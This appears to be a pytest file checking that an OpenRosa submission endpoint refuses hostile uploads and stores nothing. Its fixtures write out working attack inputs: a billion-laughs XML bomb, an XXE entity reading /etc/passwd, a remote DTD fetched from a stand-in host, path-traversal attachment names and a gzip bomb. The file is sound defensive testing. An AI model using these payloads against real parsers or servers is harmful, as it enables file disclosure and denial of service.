"""Hostile and broken submissions: each gets a 4xx OpenRosa message and nothing is stored."""

from __future__ import annotations

from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from lxml import etree

from server.blobs.models import Blob
from server.submissions.models import Submission
from tests.factories import Device
from tests.openrosa.helpers import OPENROSA, PHOTO, count, form_data, new_instance_id, simple_xml

OR = "{http://openrosa.org/http/response}"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<data id="simple" version="1"><name>&lol9;</name><meta><instanceID>uuid:lol</instanceID></meta>
</data>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<data id="simple" version="1"><name>&secret;</name><meta><instanceID>uuid:x</instanceID></meta>
</data>"""

NETWORK_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://203.0.113.1/evil.dtd">
<data id="simple" version="1"><name>x</name><meta><instanceID>uuid:y</instanceID></meta></data>"""

UTF16_DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY e "x">]>'
    '<data id="simple" version="1"><meta><instanceID>uuid:z</instanceID></meta></data>'
).encode("utf-16")


def post(
    client: FlaskClient, device: Device, headers: dict[str, str] | None = None, **kwargs: object
) -> tuple[int, str, str]:
    response = client.post(
        device.base_path + "/submission", headers={**OPENROSA, **(headers or {})}, **kwargs
    )
    root = etree.fromstring(response.data)
    message = root.find(f"{OR}message")
    assert message is not None
    return response.status_code, message.get("nature", ""), message.text or ""


def nothing_stored(app: Flask, tmp_dir: Path) -> bool:
    """No submission, no blob beyond the published form's source, no temporary file left."""
    leftover = list(tmp_dir.iterdir()) if tmp_dir.exists() else []
    blob_dir = Path(app.extensions["fieldsync"].settings.blob_dir)
    blob_files = [p for p in blob_dir.rglob("*") if p.is_file() and ".incoming" not in p.parts]
    return (
        count(app, Submission) == 0 and count(app, Blob) == len(blob_files) == 1 and leftover == []
    )


@pytest.fixture
def tmp_dir(app: Flask, simple_form: None) -> Path:
    return Path(app.extensions["fieldsync"].settings.upload_tmp_dir)


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, NETWORK_DTD, UTF16_DOCTYPE],
    ids=["billion-laughs", "external-entity", "network-dtd", "utf16-doctype"],
)
def test_xml_with_a_doctype_or_entities_is_refused_unexpanded(
    app: Flask,
    client: FlaskClient,
    device: Device,
    simple_form: None,
    tmp_dir: Path,
    xml: bytes,
) -> None:
    status, nature, text = post(client, device, data=form_data(xml))
    assert status == 400
    assert nature == "xml.forbidden_construct"
    assert "lol" not in text and "root:" not in text
    assert nothing_stored(app, tmp_dir)


@pytest.mark.parametrize(
    "xml,expected",
    [
        (b"<data id='simple' version='1'><name>unclosed</data>", "xml.malformed"),
        (b"", "xml.malformed"),
        (
            b"<data version='1'><meta><instanceID>uuid:1</instanceID></meta></data>",
            "submission.invalid",
        ),
        (b"<data id='simple' version='1'><name>no meta</name></data>", "submission.invalid"),
    ],
    ids=["unclosed-tag", "empty", "no-form-id", "no-instance-id"],
)
def test_malformed_instances_are_a_400(
    app: Flask,
    client: FlaskClient,
    device: Device,
    simple_form: None,
    tmp_dir: Path,
    xml: bytes,
    expected: str,
) -> None:
    status, nature, _ = post(client, device, data=form_data(xml))
    assert (status, nature) == (400, expected)
    assert nothing_stored(app, tmp_dir)


def test_a_body_without_xml_submission_file_is_a_400(
    app: Flask, client: FlaskClient, device: Device, simple_form: None, tmp_dir: Path
) -> None:
    import io

    status, _, text = post(client, device, data={"a.jpg": (io.BytesIO(PHOTO), "a.jpg")})
    assert status == 400
    assert "xml_submission_file" in text
    assert nothing_stored(app, tmp_dir)


def test_a_body_that_is_not_multipart_is_a_400(
    app: Flask, client: FlaskClient, device: Device, simple_form: None, tmp_dir: Path
) -> None:
    status, _, text = post(
        client, device, data=simple_xml(new_instance_id()), content_type="text/xml"
    )
    assert status == 400
    assert "multipart/form-data" in text
    assert nothing_stored(app, tmp_dir)


@pytest.mark.parametrize("name", ["../../x", "..", "photos/a.jpg", "C:\\temp\\a.jpg", "a\x00.jpg"])
def test_an_attachment_name_with_a_path_is_a_400(
    app: Flask, client: FlaskClient, device: Device, simple_form: None, tmp_dir: Path, name: str
) -> None:
    boundary = "fieldsyncboundary"
    quoted = name.replace("\\", "\\\\")  # a quoted-string escapes backslashes
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="xml_submission_file"; filename="s.xml"\r\n'
            "Content-Type: text/xml\r\n\r\n"
        ).encode()
        + simple_xml(new_instance_id(), photo="x")
        + (
            f"\r\n--{boundary}\r\n"
            f'Content-Disposition: form-data; name="{quoted}"; filename="{quoted}"\r\n'
            "Content-Type: image/jpeg\r\n\r\n"
        ).encode()
        + PHOTO
        + f"\r\n--{boundary}--\r\n".encode()
    )
    status, nature, _ = post(
        client, device, data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert (status, nature) == (400, "submission.attachment_name")
    assert nothing_stored(app, tmp_dir)


def truncated_body(boundary: str, xml: bytes) -> bytes:
    complete = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="xml_submission_file"; filename="s.xml"\r\n'
            "Content-Type: text/xml\r\n\r\n"
        ).encode()
        + xml
        + (
            f"\r\n--{boundary}\r\n"
            'Content-Disposition: form-data; name="a.jpg"; filename="a.jpg"\r\n'
            "Content-Type: image/jpeg\r\n\r\n"
        ).encode()
        + PHOTO * 40
        + f"\r\n--{boundary}--\r\n".encode()
    )
    # Cut inside the photo: the closing boundary never arrives.
    return complete[: len(complete) - len(PHOTO) * 20]


def test_a_truncated_multipart_body_is_a_400_and_stores_nothing(
    app: Flask, client: FlaskClient, device: Device, simple_form: None, tmp_dir: Path
) -> None:
    boundary = "cutshort"
    body = truncated_body(boundary, simple_xml(new_instance_id(), photo="a.jpg"))
    status, nature, text = post(
        client, device, data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert status == 400
    assert nature == "submission.invalid"
    assert "truncated" in text
    assert nothing_stored(app, tmp_dir)


def multipart_bytes(xml: bytes, files: dict[str, bytes], boundary: str = "gzboundary") -> bytes:
    body = (
        (
            f"--{boundary}\r\n"
            'Content-Disposition: form-data; name="xml_submission_file"; filename="s.xml"\r\n'
            "Content-Type: text/xml\r\n\r\n"
        ).encode()
        + xml
        + b"\r\n"
    )
    for name, content in files.items():
        body += (
            (
                f"--{boundary}\r\n"
                f'Content-Disposition: form-data; name="{name}"; filename="{name}"\r\n'
                "Content-Type: image/jpeg\r\n\r\n"
            ).encode()
            + content
            + b"\r\n"
        )
    return body + f"--{boundary}--\r\n".encode()


def test_a_gzip_encoded_body_is_accepted(
    app: Flask, client: FlaskClient, device: Device, simple_form: None
) -> None:
    import gzip

    body = gzip.compress(
        multipart_bytes(simple_xml(new_instance_id(), photo="a.jpg"), {"a.jpg": PHOTO})
    )
    response = client.post(
        device.base_path + "/submission",
        data=body,
        headers={**OPENROSA, "Content-Encoding": "gzip"},
        content_type="multipart/form-data; boundary=gzboundary",
    )
    assert response.status_code == 201
    assert count(app, Submission) == 1


def test_a_gzip_bomb_is_a_413_and_another_coding_a_415(
    app: Flask, client: FlaskClient, device: Device, simple_form: None, tmp_dir: Path
) -> None:
    import gzip

    limit = app.extensions["fieldsync"].settings.max_upload_bytes
    # About 20 KB on the wire, far more than the limit once inflated.
    bomb = gzip.compress(
        multipart_bytes(
            simple_xml(new_instance_id(), photo="a.jpg"), {"a.jpg": b"\0" * (limit + 1024)}
        )
    )
    assert len(bomb) < limit // 100
    whole = gzip.compress(multipart_bytes(simple_xml(new_instance_id()), {}))
    for coding, body, expected in (
        ("gzip", bomb, (413, "request.too_large")),
        ("br", b"\x0b\x02\x80", (415, "request.unsupported_encoding")),
        # A damaged gzip body has the same code here as on the sync API.
        ("gzip", b"not gzip at all", (400, "request.malformed_body")),
        ("gzip", whole[: len(whole) // 2], (400, "request.malformed_body")),
    ):
        status, nature, _ = post(
            client,
            device,
            data=body,
            headers={"Content-Encoding": coding},
            content_type="multipart/form-data; boundary=gzboundary",
        )
        assert (status, nature) == expected, coding
    assert nothing_stored(app, tmp_dir)
